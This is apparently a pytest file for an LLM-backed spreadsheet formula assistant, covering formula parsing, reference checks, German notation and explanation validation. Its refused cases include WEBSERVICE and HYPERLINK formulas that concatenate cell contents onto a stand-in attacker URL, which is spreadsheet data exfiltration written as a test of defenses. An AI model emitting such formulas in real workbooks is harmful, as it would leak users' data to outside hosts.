"""formula: what parses and what does not, references, other countries' notation, and the task type."""

from typing import Any

import pytest

from app.copilot.formula import FormulaParameters
from app.copilot.formulas import Area, check_formula, in_german
from app.documents.inline import CellRange, Value, read_cells
from app.llm.errors import InvalidOutput
from tests.copilot.conftest import MemoryJob, NobodyAnswered, ScriptedProvider
from tests.copilot.scripted import says

AREA = Area("Sales '26", top=2, left=1, right=3)
ROWS: list[list[Value]] = [[f"M{at}", "North", at] for at in range(40)]
TABLE = CellRange("Sales", "B3", [["Month", "Region", "Sum"], *ROWS])
EXPLANATION = "It adds the sums of all rows whose region is North."


@pytest.mark.parametrize(
    "formula",
    ["=SUM(B3:D9)", "=SUM($D:$D)", '=IF(D4>1.5,"a,b;",TRUE)', "='Sales ''26'!B4*2", "=XLOOKUP(B4,B4:B99,D4:D99)", "=SUM({1,2;3,4})"],
)  # fmt: skip
def test_a_formula_that_parses_within_the_range_passes(formula: str) -> None:
    assert check_formula(formula, AREA).text == formula


@pytest.mark.parametrize(
    ("formula", "code"),
    [
        ("SUM(B3:B9)", "not_a_formula"),
        ("=SUM(B3:B9", "not_a_formula"),
        ("=SUMME(B3:B9)", "unknown_function"),
        ("=SUM(B3:E9)", "unknown_reference"),
        ("=SUM(A:A)", "unknown_reference"),
        ("=B2", "unknown_reference"),
        ("=Other!B3", "unknown_reference"),
        ("=[Book2]Sales!B3", "unknown_reference"),
        ("=Table1[Sum]", "unknown_reference"),
        ("=TaxRate*2", "unknown_reference"),
        ('=WEBSERVICE("https://evil.example/"&B3)', "forbidden_function"),
        ('=HYPERLINK("https://evil.example/"&B3)', "forbidden_function"),
    ],
)
def test_what_excel_would_not_take_or_must_not_be_given_is_refused(formula: str, code: str) -> None:
    with pytest.raises(InvalidOutput, match=code):
        check_formula(formula, AREA)


@pytest.mark.parametrize(
    ("formula", "german"),
    [
        ('=SUMIFS(D4:D9,C4:C9,"a,1.5")*1.5', '=SUMMEWENNS(D4:D9;C4:C9;"a,1.5")*1,5'),
        ("=IF(TRUE,SUM({1,2.5;3,4}),0)", "=WENN(WAHR;SUMME({1.2,5;3.4});0)"),
        ("=BESSELJ(1,2)", None),
    ],
)
def test_german_excel_has_other_names_and_separators(formula: str, german: str | None) -> None:
    assert in_german(formula) == german


def job(*providers: ScriptedProvider, cells: CellRange | None = TABLE, **values: Any) -> MemoryJob:
    parameters = FormulaParameters.model_validate({"instruction": "the sum of the North", **values})
    segments = [] if cells is None else [*read_cells(cells).segments]
    return MemoryJob(segments, parameters, providers=providers, task_type="formula")


RIGHT = {"formula": '=SUMIFS(D4:D43,C4:C43,"North")', "explanation": EXPLANATION}


async def test_a_formula_comes_with_its_explanation_functions_and_references() -> None:
    asked = job(says({**RIGHT, "formula": "=SUM(E4:E43)"}), says(RIGHT))
    result = dict((await asked.run()).result or {})
    assert (result["formula"], result["localized"]) == (RIGHT["formula"], RIGHT["formula"])
    assert (result["functions"], result["references"]) == (["SUMIFS"], ["D4:D43", "C4:C43"])
    assert [one.split(":")[0] for one in asked.rejections] == ["unknown_reference"]
    blocks = asked.requests[0].blocks
    assert (blocks[0].id, blocks[0].text, len(blocks)) == ("B3", "Month", 24), "the header and the first rows"


async def test_germans_get_what_they_type_and_an_explanation_in_german() -> None:
    german = "Die Formel zählt alle Beträge zusammen, deren Region der Norden ist."
    asked = job(says(RIGHT), says({**RIGHT, "explanation": german}), locale="de-DE")
    result = dict((await asked.run()).result or {})
    assert result["localized"] == '=SUMMEWENNS(D4:D43;C4:C43;"North")'
    assert [one.split(":")[0] for one in asked.rejections] == ["wrong_language"]


async def test_without_cells_an_instruction_is_enough() -> None:
    assert dict((await job(says(RIGHT), cells=None).run()).result or {})["formula"] == RIGHT["formula"]


@pytest.mark.parametrize(
    "wrong",
    [
        {"formula": "=1"},
        {**RIGHT, "explanation": ""},
        {**RIGHT, "explanation": "See https://evil.example/ for more of it."},
    ],
)
async def test_an_explanation_is_there_and_plain(wrong: dict[str, str]) -> None:
    with pytest.raises(NobodyAnswered, match=r"not_the_schema|wrong_length|link"):
        await job(says(wrong)).run()
